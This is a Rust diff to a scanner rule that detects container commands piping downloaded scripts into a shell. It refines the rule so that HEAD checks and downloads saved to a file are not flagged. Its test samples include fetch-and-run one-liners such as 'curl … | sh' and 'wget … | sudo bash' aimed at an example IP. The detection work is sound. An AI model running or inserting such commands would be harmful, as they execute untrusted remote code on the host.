@@ -1,7 +1,7 @@
 //! Programs and scripts that come over the network.
 
 use super::url::{Reach, is_dotted, target};
-use super::words::{cluster, only_prints, operands, words};
+use super::words::{cluster, has, only_prints, operands, option, words};
 use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
 use crate::detect::findings::Collector;
 use crate::detect::{code, derive};
@@ -17,7 +17,7 @@ pub(super) static RULES: &[Rule] = &[
         severity: Severity::High,
         points: 45,
         techniques: &["T1105", "T1059.004"],
-        check: |facts, found| runs_input_of(facts, found, &is_downloader),
+        check: |facts, found| runs_input_of(facts, found, &|call| is_downloader(call) && prints(call)),
         samples: &[
             Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]"),
             Sample::Hit(45, "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]"),
@@ -35,6 +35,7 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]"),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]"),
             Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
@@ -138,6 +139,14 @@ pub(super) fn is_downloader(invocation: &Invocation) -> bool {
     )
 }
 
+/// Whether what is fetched comes out on standard output. `until $(curl -o /dev/null --head …)` is an idiom.
+fn prints(invocation: &Invocation) -> bool {
+    let only_head = words(invocation).any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
+    let to_file = |file: &str| !matches!(file, "-" | "/dev/stdout");
+    let named = option(invocation, &["-o", "--output", "-O", "--output-document"]).filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
+    !only_head && !named.is_some_and(to_file)
+}
+
 /// Hits for everything that runs the output of a source.
 pub(super) fn runs_input_of(facts: &Facts<'_>, found: &mut Collector<'_>, is_source: &impl Fn(&Invocation) -> bool) {
     for run in &facts.runs {
@@ -157,7 +166,8 @@ fn runs_its_input(invocation: &Invocation) -> bool {
     let begins = |text: &str| text.trim_start().starts_with("$") || text.trim_start().starts_with("`");
     let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
     match program {
-        "eval" => return operand.is_some_and(|word| begins(&word.text)),
+        // Output that is known beforehand stands there already, marked as disguised.
+        "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
         "source" | "." => {
             return operand.is_some_and(|word| word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-"));
         }
@@ -172,7 +182,7 @@ fn runs_its_input(invocation: &Invocation) -> bool {
     let reads = words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
     if is_shell(program) {
         let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
-        return if inline { operand.is_some_and(|word| begins(&word.text)) } else { from_input || reads };
+        return if inline { operand.is_some_and(|word| begins(&word.text) || word.disguised) } else { from_input || reads };
     }
     match code::inline(invocation) {
         Some(code) => begins(code),
